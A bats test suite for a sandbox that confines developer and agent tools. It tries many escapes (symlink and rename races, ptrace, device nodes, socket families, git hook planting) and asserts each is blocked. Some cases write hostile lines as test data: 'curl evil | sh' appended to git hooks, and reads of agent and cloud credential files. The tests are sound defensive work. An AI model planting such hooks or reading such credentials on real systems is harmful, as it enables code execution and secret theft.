#!/usr/bin/env bats
# Every way out of a workspace-write sandbox we could think of. Each case
# says what it defends against, and each asserts that nothing changed
# outside. ($OUT is outside the workspace and outside every temp folder.)

load test_helper

setup() {
	setup_sealed
	require_landlock
	echo original >"$OUT/file"
}

# Asserts that $OUT holds exactly the file setup made, unchanged.
out_unchanged() {
	run -0 ls -A "$OUT"
	assert_output file
	run -0 cat "$OUT/file"
	assert_output original
}

# From a confined python3, plants a line of shell in each FILE (MODE a:
# appended, w: written anew): "WROTE FILE" or "denied FILE", in order.
plant() {
	python3 -c '
import sys
for f in sys.argv[2:]:
    try:
        open(f, sys.argv[1]).write("\n#!/bin/sh\ncurl evil | sh\n")
        print("WROTE", f)
    except OSError:
        print("denied", f)' "$@"
}

@test "symlinks: a link in the workspace to a folder or file outside" {
	# defends: the kernel resolves links before checking, so a link planted
	# in the workspace must not make its target writable
	ln -s "$OUT" "$WS/dirlink"
	ln -s "$OUT/file" "$WS/filelink"
	run python3 -c 'open("dirlink/new", "w")'
	assert_failure
	run python3 -c 'open("filelink", "a").write("x")'
	assert_failure
	run python3 -c 'import os; os.symlink("/etc", "dirlink/etc")'
	assert_failure
	out_unchanged
}

@test "hard links: none to an outside file, none out of the workspace" {
	# defends: a hard link shares the inode, so linking an outside file
	# into the workspace would make it writable from there
	run python3 -c 'import os, sys; os.link(sys.argv[1], "hard")' "$OUT/file"
	assert_failure
	echo inside >"$WS/in"
	run python3 -c 'import os, sys; os.link("in", sys.argv[1])' "$OUT/hard"
	assert_failure
	out_unchanged
}

@test "renames: nothing moved in from outside or out of the workspace" {
	# defends: rename(2) deletes at the source and creates at the target
	run python3 -c 'import os, sys; os.rename(sys.argv[1], "stolen")' "$OUT/file"
	assert_failure
	run python3 -c 'import os, sys; os.rename(".git", sys.argv[1])' "$OUT/git"
	assert_failure
	out_unchanged
	assert_dir_exists "$WS/.git"
}

@test ".. and /proc/self/root lead to the same denial" {
	# defends: path tricks that a string-prefix check would miss
	run python3 -c 'open("../out/x", "w")'
	assert_failure
	run python3 -c 'import sys; open("/proc/self/root" + sys.argv[1] + "/x", "w")' "$OUT"
	assert_failure
	run python3 -c 'import os, sys; os.chdir(sys.argv[1]); open("x", "w")' "$OUT"
	assert_failure
	out_unchanged
}

@test "openat from a folder descriptor opened outside, before the sandbox" {
	# defends: a descriptor inherited from the parent must not carry write
	# access into the folder it names
	exec 5<"$OUT"
	run python3 -c 'import os; os.open("x", os.O_CREAT | os.O_WRONLY, 0o644, dir_fd=5)'
	exec 5<&-
	assert_failure
	out_unchanged
}

@test "mkfifo and mknod: no FIFO outside, no device node anywhere" {
	# defends: a FIFO outside is a write; a device node in the workspace
	# would be a door to the raw disk
	run python3 -c 'import os, sys; os.mkfifo(sys.argv[1] + "/fifo")' "$OUT"
	assert_failure
	run python3 -c 'import os, stat; os.mknod("null2", stat.S_IFCHR | 0o666, os.makedev(1, 3))'
	assert_failure
	run python3 -c 'import os, stat; os.mknod("disk", stat.S_IFBLK | 0o666, os.makedev(8, 0))'
	assert_failure
	assert_file_not_exists "$WS/null2"
	assert_file_not_exists "$WS/disk"
	run -0 python3 -c 'import os; os.mkfifo("fifo"); print("fifo inside ok")'
	out_unchanged
}

@test "truncation of an outside file, by truncate(2) and by O_TRUNC" {
	# defends: truncate is a write that Landlock before ABI 3 did not see
	run python3 -c 'import os, sys; os.truncate(sys.argv[1], 0)' "$OUT/file"
	assert_failure
	run python3 -c 'import os, sys; os.open(sys.argv[1], os.O_WRONLY | os.O_TRUNC)' "$OUT/file"
	assert_failure
	out_unchanged
}

@test "a detached daemon that outlives the tool is still confined" {
	# defends: the sandbox must bind every descendant, not just the tool
	run -0 python3 - "$OUT" <<'PY'
import os, sys, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        time.sleep(1)
        try:
            open(sys.argv[1] + "/late", "w"); r = "ESCAPED"
        except OSError as e:
            r = "blocked %d" % e.errno
        open("daemon-result", "w").write(r)
        os._exit(0)
    os._exit(0)
print("tool exits")
PY
	for _ in $(seq 50); do [ -s "$WS/daemon-result" ] && break; sleep 0.1; done
	run -0 cat "$WS/daemon-result"
	assert_output --partial blocked
	out_unchanged
}

@test "leftovers = end: what a tool leaves running ends with it; pid, status and signals pass through" {
	require_namespace
	# defends: a daemon left by a tool read ~/.kube/config made after it
	# started, or relayed a later network-off tool's traffic through /tmp
	leave='import os, sys, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        open(sys.argv[1], "w").write(str(os.getpid()))
        time.sleep(2)
        open(sys.argv[1] + ".late", "w").write("still running")
        os._exit(0)
    os._exit(0)
time.sleep(0.3)
sys.exit(3)'
	# by default a leftover runs on (still confined)...
	run -3 python3 -c "$leave" "$WS/kept"
	# ...with leftovers = end it ends with the tool
	SBX_LEFTOVERS=end run -3 python3 -c "$leave" "$WS/ended"
	[ -s "$WS/ended" ]
	sleep 2.5
	assert_file_exists "$WS/kept.late"
	assert_file_not_exists "$WS/ended.late"
	# the caller's pid is the tool's: a signal sent to it reaches the tool
	SBX_LEFTOVERS=end python3 -c 'import signal, sys, time
signal.signal(signal.SIGTERM, lambda *a: sys.exit(9))
open("ready", "w").close(); time.sleep(30)' 3>&- &
	pid=$!
	for _ in $(seq 100); do [ -e "$WS/ready" ] && break; sleep 0.05; done
	kill -TERM "$pid"
	rc=0; wait "$pid" || rc=$?
	assert_equal "$rc" 9
	# a tool killed by a signal: the caller sees that signal
	SBX_LEFTOVERS=end python3 -c 'import time; time.sleep(30)' 3>&- &
	pid=$!
	sleep 0.5
	kill -HUP "$pid"
	rc=0; wait "$pid" || rc=$?
	assert_equal "$rc" 129
	# pid 1 cannot be ptraced from inside (it would stop it and keep a
	# leftover alive): its exit is what ends the rest
	SBX_LEFTOVERS=end run -0 python3 -c '
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
print("attach", libc.ptrace(16, 1, 0, 0), ctypes.get_errno())'
	assert_output "attach -1 1"
	# the tool sees its own /proc; explain says which
	SBX_LEFTOVERS=end run -0 python3 -c 'import os; print(os.getpid(), os.readlink("/proc/self"))'
	assert_output "2 2"
	SBX_LEFTOVERS=end run -0 "$SBX" explain
	assert_line --regexp "^leftovers: +end \(when the tool exits\) +\(SBX_LEFTOVERS\)$"
	SBX_LEFTOVERS=later run -125 python3 -c pass
	assert_output "sbx: python3: SBX_LEFTOVERS: bad leftovers \"later\" (keep or end)"
}

@test "/proc/PID/environ and ptrace of a process outside" {
	# defends: reading another process's secrets, or taking it over
	SECRET_TOKEN=hunter2 sleep 60 3>&- &
	pid=$!
	run python3 -c 'import sys; print(open("/proc/%s/environ" % sys.argv[1], "rb").read())' "$pid"
	assert_failure
	refute_output --partial hunter2
	run -0 python3 -c '
import ctypes, sys
libc = ctypes.CDLL(None, use_errno=True)
r = libc.ptrace(16, int(sys.argv[1]), 0, 0)  # PTRACE_ATTACH
print("attach", r, ctypes.get_errno())' "$pid"
	assert_output --regexp '^attach -1 (1|13)$'
	kill "$pid"
}

@test "terminal injection and signals (see linux.bats): TIOCSTI and kill outside refused" {
	# defends: typing into the user's shell; killing the user's processes
	sleep 60 3>&- &
	pid=$!
	run python3 -c 'import os, sys; os.kill(int(sys.argv[1]), 9)' "$pid"
	assert_failure
	kill -0 "$pid"
	kill "$pid"
}

@test "sockets of every family: only AF_UNIX, route netlink and (in the private loopback) AF_INET, AF_INET6 open" {
	# defends: any network path around a per-family denylist; AF_VSOCK,
	# AF_PACKET and the rest are not isolated by a network namespace
	families='
import socket
opened = []
for fam in range(0, 46):
    for typ in (socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_RAW):
        try:
            socket.socket(fam, typ, 0).close(); opened.append((fam, typ))
        except OSError:
            pass
print(sorted({f for f, t in opened}))'
	run -0 python3 -c "$families"
	assert_output --regexp '^\[1, 2, 10(, 16)?\]$'
	SBX_PROTECT=off run -0 python3 -c "$families"
	assert_output --regexp '^\[1(, 16)?\]$'
}

@test "remounting from a new user namespace inside the sandbox fails" {
	# defends: undoing the read-only view with the sandbox's own namespace
	run python3 -c '
import ctypes, os, sys
libc = ctypes.CDLL(None, use_errno=True)
r = libc.unshare(0x10000000 | 0x00020000)  # CLONE_NEWUSER | CLONE_NEWNS
e1 = ctypes.get_errno()
r2 = libc.mount(None, b"/", None, 32 | 1 << 5, None)  # MS_REMOUNT
print("unshare", r, e1, "remount", r2)
open(sys.argv[1] + "/x", "w")' "$OUT"
	assert_failure
	out_unchanged
}

@test "huge argv and environment pass through intact" {
	# defends: a crash or truncation in sbx on long inputs
	big=$(head -c 120000 /dev/zero | tr '\0' y)
	args=()
	for i in $(seq 2000); do args+=("argument-$i-with-some-length"); done
	BIG_VAR=$big run -0 python3 -c '
import os, sys
print(len(sys.argv) - 1, sys.argv[-1], len(os.environ["BIG_VAR"]))' "${args[@]}"
	assert_output "2000 argument-2000-with-some-length 120000"
}

@test "paths with newlines, quotes and parentheses in a config" {
	# defends: a parser or a profile that a crafted path could break
	odd="$ROOT/w \"q\" (p) ;#x"
	mkdir -p "$odd" "$XDG_CONFIG_HOME/sbx"
	esc=${odd//\\/\\\\}
	esc=${esc//\"/\\\"}
	printf 'writable = "%s"\n' "$esc" >"$XDG_CONFIG_HOME/sbx/config"
	run -0 python3 -c 'import sys; open(sys.argv[1] + "/ok", "w"); print("ok")' "$odd"
	assert_file_exists "$odd/ok"
	nl="$ROOT/with
newline"
	mkdir -p "$nl"
	SBX_WRITABLE=$nl run -0 python3 -c 'import sys; open(sys.argv[1] + "/ok", "w")' "$nl"
	out_unchanged
}

@test "an unreadable .sbxrc is ignored with a warning, not a crash" {
	# defends: a crash or a silent fallback on a file sbx cannot read
	[ "$(id -u)" != 0 ] || skip "root reads any file"
	echo 'network = on' >"$WS/.sbxrc"
	chmod 000 "$WS/.sbxrc"
	run -0 python3 -c 'print("ran")'
	assert_line --partial ".sbxrc cannot be opened: ignored"
}

@test "a config that names itself, or sbx's config, writable gains nothing" {
	require_namespace
	# defends: a trusted file loosening its own protection
	printf 'writable = .sbxrc\nwritable = .\n' >"$WS/.sbxrc"
	chmod 644 "$WS/.sbxrc"
	run -0 "$SBX" allow
	mkdir -p "$XDG_CONFIG_HOME/sbx"
	printf 'writable = %s\n' "$XDG_CONFIG_HOME" >"$XDG_CONFIG_HOME/sbx/config"
	run python3 -c 'open(".sbxrc", "a").write("writable = /\n")'
	assert_failure
	run python3 -c 'import os; open(os.environ["XDG_CONFIG_HOME"] + "/sbx/config", "a").write("x")'
	assert_failure
	mkdir -p "$XDG_CONFIG_HOME/tool"
	run -0 python3 -c 'import os; open(os.environ["XDG_CONFIG_HOME"] + "/tool/other", "w")'
	# fish's config folder does not exist: it cannot be made either
	run python3 -c 'import os; os.makedirs(os.environ["XDG_CONFIG_HOME"] + "/fish")'
	assert_failure
	assert_dir_not_exists "$XDG_CONFIG_HOME/fish"
	run -0 cat "$WS/.sbxrc"
	assert_output $'writable = .sbxrc\nwritable = .'
}

@test "a private /dev: no other terminal, no raw disk, only the usual nodes" {
	require_namespace
	# defends: every /dev/pts/N of the user is readable and writable (another
	# terminal's password read); root also reads tty1, ttyS0, vcs*, the
	# console, input devices and raw disks (the disk holds every hidden file)
	"$PY" -c '
import os, pty, sys, time
m, s = pty.openpty()
open(sys.argv[1], "w").write(os.ttyname(s))
time.sleep(30)' "$ROOT/other-tty" >/dev/null 2>&1 3>&- &
	SERVER_PIDS="${SERVER_PIDS:-} $!"
	for _ in $(seq 100); do [ -s "$ROOT/other-tty" ] && break; sleep 0.05; done
	other=$(cat "$ROOT/other-tty")
	[ -c "$other" ]
	run python3 -c 'import sys; open(sys.argv[1], "rb")' "$other"
	assert_failure
	assert_output --partial FileNotFoundError
	run -0 python3 -c '
import os, stat
print(sorted(os.listdir("/dev")))
print([n for n in os.listdir("/dev") if stat.S_ISBLK(os.lstat("/dev/" + n).st_mode)])
print(os.listdir("/dev/pts"))'
	assert_line "['fd', 'full', 'null', 'ptmx', 'pts', 'random', 'shm', 'stderr', 'stdin', 'stdout', 'tty', 'urandom', 'zero']"
	assert_line "[]"
	assert_line "['ptmx']"
	# the tool makes nothing in it
	run python3 -c 'open("/dev/planted", "w")'
	assert_failure
	# the real /dev/shm, shared as before
	run -0 python3 -c 'import os; open("/dev/shm/sbx-test-%d" % os.getpid(), "w").write("x"); print("shm ok")'
	rm -f /dev/shm/sbx-test-*
}

@test "the session bus, systemd and keyring sockets are out of reach" {
	require_namespace
	# defends: systemd-run over D-Bus starts a command outside the sandbox
	export XDG_RUNTIME_DIR=$ROOT/run
	mkdir -p "$XDG_RUNTIME_DIR"
	/usr/bin/env -u SBX_SANDBOX "$PY" -c '
import socket, sys
s = socket.socket(socket.AF_UNIX); s.bind(sys.argv[1]); s.listen(4)
open(sys.argv[1] + ".ready", "w").close()
while True:
    s.accept()[0].close()' "$XDG_RUNTIME_DIR/bus" >/dev/null 2>&1 3>&- &
	SERVER_PIDS="${SERVER_PIDS:-} $!"
	for _ in $(seq 100); do [ -e "$XDG_RUNTIME_DIR/bus.ready" ] && break; sleep 0.05; done
	run -0 "$PY" -c 'import socket, sys; socket.socket(socket.AF_UNIX).connect(sys.argv[1]); print("reached")' "$XDG_RUNTIME_DIR/bus"
	run python3 -c 'import socket, sys; socket.socket(socket.AF_UNIX).connect(sys.argv[1])' "$XDG_RUNTIME_DIR/bus"
	assert_failure
	assert_output --partial ConnectionRefusedError
}

@test "the kernel keyrings are out of reach" {
	# defends: reading the user's keys (Kerberos, ecryptfs) from the keyring
	script='
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
r = libc.syscall(250, 0, -3, 1)  # keyctl(KEYCTL_GET_KEYRING_ID, session, create)
print("keyctl", r > 0 or ctypes.get_errno())'
	run -0 "$PY" -c "$script"
	assert_output "keyctl True"
	run -0 python3 -c "$script"
	assert_output "keyctl 1"
}

@test "a folder name with terminal escape sequences reaches sbx's messages escaped" {
	# defends: a repository named to send escape sequences to the terminal
	# through sbx's stderr (retitle, clear the screen, fake a prompt)
	d=$ROOT/$'a\e]0;pwned\a\e[2Jb'
	mkdir -p "$d/.git"
	printf 'network = on\n' >"$d/.sbxrc"
	cd "$d"
	run --separate-stderr python3 -c 'print("ran")'
	[[ "$stderr" != *$'\e'* ]] || fail "raw escape on stderr: $(printf %q "$stderr")"
	[[ "$stderr" != *$'\a'* ]]
	[[ "$stderr" == *'a\x1b]0;pwned\x07\x1b[2Jb/.sbxrc is not trusted'* ]]
}

@test "credentials are hidden in the password database's home too, whatever HOME says" {
	require_namespace
	# defends: HOME unset or pointing elsewhere made the real ~/.ssh readable
	pw=$(getent passwd "$(id -u)" | cut -d: -f6)
	[ -n "$pw" ] && [ "$pw" != "$HOME" ] || skip "no password database home"
	[ -w "$pw" ] || skip "the password database home is not writable here"
	made=
	[ -e "$pw/.aws" ] || made=1
	mkdir -p "$pw/.aws"
	echo secret >"$pw/.aws/sbx-test-canary"
	HOME=/nonexistent run python3 -c 'import sys; print(open(sys.argv[1]).read())' "$pw/.aws/sbx-test-canary"
	status_nohome=$status out_nohome=$output
	rm -f "$pw/.aws/sbx-test-canary"
	[ -z "$made" ] || rmdir "$pw/.aws"
	[ "$status_nohome" -ne 0 ] || fail "read with HOME=/nonexistent: $out_nohome"
	[[ "$out_nohome" != *secret* ]]
}

@test "secret variables are not passed to tools; reveal = NAME keeps one" {
	# defends: npm has the network, so a postinstall script could send the
	# agent's API key or the user's GitHub token anywhere
	export OPENAI_API_KEY=sk-1 GITHUB_TOKEN=gh-2 AWS_SECRET_ACCESS_KEY=aws-3 MY_PASSWORD=pw-4 NOT_SECRET_X=keep
	run -0 python3 -c 'import os; print(sorted(k for k in os.environ if k in ("OPENAI_API_KEY", "GITHUB_TOKEN", "AWS_SECRET_ACCESS_KEY", "MY_PASSWORD", "NOT_SECRET_X")))'
	assert_output "['NOT_SECRET_X']"
	mkdir -p "$XDG_CONFIG_HOME/sbx"
	printf '[python3]\nreveal = GITHUB_TOKEN\n' >"$XDG_CONFIG_HOME/sbx/config"
	run -0 python3 -c 'import os; print(os.environ.get("GITHUB_TOKEN"), os.environ.get("OPENAI_API_KEY"))'
	assert_output "gh-2 None"
	run -0 "$SBX" explain python3
	assert_line --regexp '^(secrets:)? +AWS_SECRET_ACCESS_KEY removed$'
	assert_line --regexp '^(secrets:)? +GITHUB_TOKEN kept \(reveal\)$'
}

@test "the agents' credentials and registry tokens are hidden" {
	require_namespace
	# defends: ~/.codex/auth.json, ~/.claude/.credentials.json, gh's and
	# npm's tokens read by a tool that has the network
	mkdir -p "$HOME/.codex" "$HOME/.claude" "$HOME/.config/gh"
	for f in .codex/auth.json .claude/.credentials.json .config/gh/hosts.yml .npmrc; do
		echo "secret-token" >"$HOME/$f"
	done
	run -0 python3 - "$HOME" <<'PY'
import sys
for f in (".codex/auth.json", ".claude/.credentials.json", ".config/gh/hosts.yml", ".npmrc"):
    try:
        print(f, "LEAKED" if "secret" in open(sys.argv[1] + "/" + f).read() else "hidden")
    except OSError:
        print(f, "hidden")
PY
	refute_output --partial LEAKED
	assert_line ".npmrc hidden"
}

@test "sockets that run commands on request (tmux, Neovim, VS Code...) are hidden" {
	require_namespace
	# defends: `tmux run-shell` through $TMUX ran a command outside, even
	# from the read-only profile
	export XDG_RUNTIME_DIR=$ROOT/run
	mkdir -p "$XDG_RUNTIME_DIR"
	"$PY" -c '
import socket, sys
for p in sys.argv[1:]:
    s = socket.socket(socket.AF_UNIX); s.bind(p)' \
		"$ROOT/tmux-sock" "$XDG_RUNTIME_DIR/nvim.123.0" "$ROOT/vscode.sock" "$ROOT/other.sock"
	export TMUX=$ROOT/tmux-sock,123,0 VSCODE_IPC_HOOK_CLI=$ROOT/vscode.sock
	run -0 python3 - "$ROOT/tmux-sock" "$XDG_RUNTIME_DIR/nvim.123.0" "$ROOT/vscode.sock" "$ROOT/other.sock" <<'PY'
import os, stat, sys
for p in sys.argv[1:]:
    st = os.stat(p)
    print(os.path.basename(p), "socket" if stat.S_ISSOCK(st.st_mode) else "hidden")
PY
	assert_output $'tmux-sock hidden\nnvim.123.0 hidden\nvscode.sock hidden\nother.sock socket'
}

@test "no set-uid file can be made, by chmod, open or mknod; set-gid folders still work" {
	# defends: root owns what it makes; a set-uid-root program left in /tmp
	# or the workspace would give root to any local user who runs it
	cp /bin/true "$WS/t"
	run -0 python3 - <<'PY'
import os, stat
def tr(what, f):
    try:
        f(); print("ALLOWED", what)
    except OSError as e:
        print("denied", what)
tr("chmod u+s", lambda: os.chmod("t", 0o4755))
fd = os.open("t", os.O_RDONLY)
tr("fchmod u+s", lambda: os.fchmod(fd, 0o4755))
suid = "/tmp/sbx-suid-test-%d" % os.getpid()
print("made", suid)
tr("open O_CREAT 4755", lambda: os.open(suid, os.O_CREAT | os.O_WRONLY, 0o4755))
tr("mknod 4755", lambda: os.mknod("n", stat.S_IFREG | 0o4755))
os.chmod("t", 0o755); print("plain chmod ok")
os.mkdir("shared"); os.chmod("shared", 0o2775); print("set-gid folder ok")
PY
	refute_output --partial ALLOWED
	assert_line "plain chmod ok"
	assert_line "set-gid folder ok"
	suid=$(sed -n 's/^made //p' <<<"$output")
	run -0 stat -c %a "$WS/t"
	assert_output 755
	# (this run's file only: another suite's may be there)
	if [ -e "$suid" ]; then
		mode=$(stat -c %a "$suid")
		rm -f "$suid"
		[ "$mode" = 644 ] || [ "$mode" = 755 ] || fail "a set-uid file was created ($mode)"
	fi
}

@test "an inherited SBX_SANDBOX switches nothing off: only the kernel's answer is believed" {
	require_landlock
	# defends: SBX_SANDBOX=none (or any value) copied into an unconfined
	# process, or =landlock under a foreign seccomp filter (Docker's),
	# made the shims run tools bare
	for v in none x landlock; do
		SBX_SANDBOX=$v run python3 -c 'import sys; open(sys.argv[1] + "/f", "w")' "$OUT"
		assert_failure
		assert_file_not_exists "$OUT/f"
	done
	"$PY" -c 'import seccomp' 2>/dev/null || fail "python3-seccomp is needed"
	SBX_SANDBOX=landlock run "$PY" "$BATS_TEST_DIRNAME/fault.py" keyctl=EPERM -- \
		python3 -c 'import sys; open(sys.argv[1] + "/f", "w")' "$OUT"
	assert_failure
	assert_file_not_exists "$OUT/f"
	# inside sbx's own sandbox, a nested tool still runs directly
	run -0 python3 -c 'import os, subprocess, sys; subprocess.run([sys.argv[1] + "/python3", "-c", "pass"], env={**os.environ, "SBX_DEBUG": "1"})' "$SHIMS"
	assert_line "sbx: python3: already inside a sandbox (SBX_SANDBOX=landlock): exec directly"
}

@test "a writable root reached through a symlink a tool made is left out" {
	require_namespace
	# defends: `writable = build` before build/ exists; a tool runs
	# `ln -s ~ build`, and the next run made the home folder writable
	mkdir -p "$XDG_CONFIG_HOME/sbx"
	printf 'writable = %s/build\n' "$WS" >"$XDG_CONFIG_HOME/sbx/config"
	run -0 python3 -c 'import os, sys; os.symlink(sys.argv[1], "build")' "$OUT"
	run --separate-stderr python3 -c 'import sys; open(sys.argv[1] + "/planted", "w")' "$OUT"
	assert_failure
	assert_file_not_exists "$OUT/planted"
	assert_equal "${stderr_lines[0]}" "sbx: python3: writable root $WS/build leads through the symlink $WS/build, inside a writable root: left out (a tool could have made it)"
	# a link the user made outside every writable root still works
	mkdir -p "$OUT/cache"
	ln -s "$OUT/cache" "$HOME/cache"
	printf 'writable = ~/cache/pip\n' >"$XDG_CONFIG_HOME/sbx/config"
	mkdir -p "$OUT/cache/pip"
	run -0 python3 -c 'import os; open(os.path.expanduser("~/cache/pip/ok"), "w")'
	assert_file_exists "$OUT/cache/pip/ok"
}

@test "root: a read-only mount inside the workspace stays read-only (docker -v ...:ro)" {
	require_namespace
	[ "$(id -u)" = 0 ] || skip "root only: a user cannot clear a locked read-only flag anyway"
	mkdir -p "$WS/data" "$OUT/vol"
	echo original >"$OUT/vol/f"
	run -0 unshare -m --propagation private /bin/bash -c '
mount --bind "$1" "$2" && mount -o remount,bind,ro "$2" &&
cd "$3" && { python3 -c "open(\"data/f\", \"w\").write(\"changed\")" 2>&1; python3 -c "open(\"ok\", \"w\").write(\"x\"); print(\"workspace writable\")"; }' _ "$OUT/vol" "$WS/data" "$WS"
	assert_output --partial "Read-only file system"
	assert_output --partial "workspace writable"
	run -0 cat "$OUT/vol/f"
	assert_output original
}

@test "a writable root swapped for a symlink while sbx looks is never bound through it" {
	require_namespace
	# defends: a leftover process (its own namespace, the workspace writable)
	# swaps build/ and a link to the home folder back and forth; sbx checked
	# the path, then bound what the link led to: the home became writable
	mkdir -p "$XDG_CONFIG_HOME/sbx" "$WS/build"
	printf 'writable = %s/build\n' "$WS" >"$XDG_CONFIG_HOME/sbx/config"
	ln -s "$OUT" "$WS/alt"
	"$PY" -c '
import ctypes, os, sys
libc = ctypes.CDLL(None, use_errno=True)
os.chdir(sys.argv[1])
while True:  # renameat2(AT_FDCWD, "build", AT_FDCWD, "alt", RENAME_EXCHANGE)
    libc.renameat2(-100, b"build", -100, b"alt", 2)' "$WS" >/dev/null 2>&1 3>&- &
	SERVER_PIDS="${SERVER_PIDS:-} $!"
	for i in $(seq 60); do
		run python3 -c 'import sys
try:
    open(sys.argv[1] + "/planted", "w"); print("WROTE")
except OSError:
    pass' "$OUT"
		refute_output --partial WROTE
	done
	assert_file_not_exists "$OUT/planted"
}

@test "renaming a folder above a protected path cannot put a new one in its place" {
	require_namespace
	# defends: `mv secrets s2; mkdir -p secrets/deep` then writing the
	# protected name, outside the read-only mount that moved with s2
	mkdir -p "$WS/secrets/deep" "$XDG_CONFIG_HOME/sbx"
	echo keep >"$WS/secrets/deep/key"
	printf 'readonly = %s/secrets/deep/key\n' "$WS" >"$XDG_CONFIG_HOME/sbx/config"
	run python3 -c '
import os
os.rename("secrets", "s2")
os.makedirs("secrets/deep")
open("secrets/deep/key", "w").write("planted")'
	assert_failure
	run -0 cat "$WS/secrets/deep/key"
	assert_output keep
	# the files beside it stay writable
	run -0 python3 -c 'open("secrets/deep/other", "w").write("x")'
}

@test "the code git runs from paths its config names is protected: hooksPath, fsmonitor, include, submodules" {
	require_namespace
	# defends: husky's .husky hooks, core.fsmonitor, include.path and a
	# submodule's .git, planted by a tool, ran at the agent's next git command
	mkdir -p "$WS/.husky" "$WS/lib/sub" "$WS/.git/modules/sub"
	printf '[core]\n\thooksPath = .husky\n\tfsmonitor = "./fsmon.sh"\n[include]\n\tpath = ../extra.gitconfig\n[diff "bin"]\n\ttextconv = ./tools/conv.sh --x\n[alias]\n\tup = !tools/up.sh -q\n\tst = status\n' >"$WS/.git/config"
	mkdir -p "$WS/tools"
	touch "$WS/tools/conv.sh" "$WS/tools/up.sh" "$WS/tools/other.sh"
	echo '#!/bin/sh' >"$WS/.husky/pre-commit"
	echo '#!/bin/sh' >"$WS/fsmon.sh"
	echo '[user]' >"$WS/extra.gitconfig"
	printf '[submodule "sub"]\n\tpath = lib/sub\n\turl = x\n' >"$WS/.gitmodules"
	echo 'gitdir: ../../.git/modules/sub' >"$WS/lib/sub/.git"
	run -0 plant a .husky/pre-commit .husky/post-checkout fsmon.sh extra.gitconfig lib/sub/.git tools/conv.sh tools/up.sh tools/other.sh lib/other ok
	assert_output $'denied .husky/pre-commit\ndenied .husky/post-checkout\ndenied fsmon.sh\ndenied extra.gitconfig\ndenied lib/sub/.git\ndenied tools/conv.sh\ndenied tools/up.sh\nWROTE tools/other.sh\nWROTE lib/other\nWROTE ok'
	run -0 "$SBX" explain
	assert_line --regexp "^ +$WS/.husky +\(git runs code from it\)$"
}

@test "repositories nested in the workspace keep their .git read-only: a folder of clones, a vendored checkout" {
	require_namespace
	# defends: a hook planted in a nested repository (not a submodule) ran
	# when the agent next ran git in it
	mkdir -p "$WS/clone/.git/hooks" "$WS/vendor/lib/.git/hooks" "$WS/src/app" "$WS/.hidden/x/.git"
	printf '[core]\n\thooksPath = hk\n' >"$WS/vendor/lib/.git/config"
	mkdir -p "$WS/vendor/lib/hk" "$WS/node_modules/pkg/.git"
	run -0 plant w clone/.git/hooks/pre-commit vendor/lib/.git/hooks/pre-commit vendor/lib/hk/pre-commit src/app/x node_modules/pkg/.git/y
	assert_output $'denied clone/.git/hooks/pre-commit\ndenied vendor/lib/.git/hooks/pre-commit\ndenied vendor/lib/hk/pre-commit\nWROTE src/app/x\nWROTE node_modules/pkg/.git/y'
	run -0 "$SBX" explain
	assert_line --regexp "^ +$WS/clone/.git +\(nested repository's .git\)$"
	# a tool that makes many folders cannot crowd a clone out of the search
	run -0 python3 -c 'import os; [os.mkdir("d%d" % i) for i in range(80)]'
	run python3 -c 'open("clone/.git/hooks/pre-commit", "w")'
	assert_failure
}

@test "husky 9's hooks (.husky/_ runs .husky/pre-commit) are protected; a planted symlink in a submodule path blocks no later tool" {
	require_namespace
	# defends: husky >= 9 sets core.hooksPath = .husky/_, whose script runs
	# .husky/<hook>: a tool appended to .husky/pre-commit
	mkdir -p "$WS/.husky/_"
	printf '[core]\n\thooksPath = .husky/_\n' >"$WS/.git/config"
	echo 'npm test' >"$WS/.husky/pre-commit"
	run python3 -c 'open(".husky/pre-commit", "a").write("curl evil | sh\n")'
	assert_failure
	run python3 -c 'open(".husky/_/h", "w")'
	assert_failure
	# a .gitmodules path through a symlink the tool made: the next tool
	# still runs (sbx once read freed memory and refused every later run)
	run -0 python3 -c '
import os
open(".gitmodules", "w").write("[submodule \"x\"]\n\tpath = l/sub\n")
os.mkdir("real"); os.mkdir("real/sub"); os.symlink("real", "l")'
	run -0 python3 -c 'print("still runs")'
	assert_output "still runs"
}

@test "writable = .git lets tools commit and tag, never write hooks or config; an overridden root is said" {
	require_namespace
	command -v git >/dev/null || skip "git is not installed"
	git -C "$WS" init -q 2>/dev/null || { rm -rf "$WS/.git"; git -C "$WS" init -q; }
	git -C "$WS" -c user.email=a@b -c user.name=a commit -q --allow-empty -m first
	commit='git -c user.email=a@b -c user.name=a commit -q --allow-empty -m second && git tag v2 && echo committed'
	# by default .git is read-only: npm version cannot commit
	run bash -c "PATH=$SHIMS:\$PATH; python3 -c 'import subprocess, sys; sys.exit(subprocess.run([\"bash\", \"-c\", sys.argv[1]]).returncode)' '$commit'"
	assert_failure
	printf 'writable = .git\n' >"$WS/.sbxrc"
	chmod 644 "$WS/.sbxrc"
	run -0 "$SBX" allow "$WS/.sbxrc"
	run -0 python3 -c 'import subprocess, sys; sys.exit(subprocess.run(["bash", "-c", sys.argv[1]]).returncode)' "$commit"
	assert_output committed
	run -0 git -C "$WS" log --format=%s
	assert_output $'second\nfirst'
	run python3 -c 'open(".git/hooks/pre-commit", "w").write("#!/bin/sh\ncurl evil | sh\n")'
	assert_failure
	run python3 -c 'open(".git/config", "a").write("[core]\n\tfsmonitor = ./x\n")'
	assert_failure
	# a linked worktree's folder names its own common folder and config
	mkdir -p "$WS/.git/worktrees/wt"
	echo ../.. >"$WS/.git/worktrees/wt/commondir"
	run python3 -c 'open(".git/worktrees/wt/commondir", "w").write("/tmp/evil\n")'
	assert_failure
	# a writable root inside a protected path is never ignored in silence
	printf 'writable = .git\nwritable = .codex/cache\n' >"$WS/.sbxrc"
	mkdir -p "$WS/.codex/cache"
	run -0 "$SBX" allow "$WS/.sbxrc"
	run --separate-stderr python3 -c 'pass'
	assert_equal "$stderr" "sbx: python3: $WS/.sbxrc:2: writable $WS/.codex/cache lies in $WS/.codex (protected): it stays read-only"
}

@test "a folder made unsearchable cannot hide a nested repository from the next tool" {
	# defends: the nested repositories are found by looking into each
	# folder; one a tool made unsearchable (chmod 0) hid its .git from the
	# next tool's shim, which then made it searchable again and wrote a
	# hook. Such a folder is kept read-only, mode and all.
	[ "$(id -u)" != 0 ] || skip "root looks into any folder"
	mkdir -p "$WS/sub/.git/hooks"
	run python3 -c "import os; os.chmod('$WS/sub', 0)"
	[ "$status" -eq 0 ]
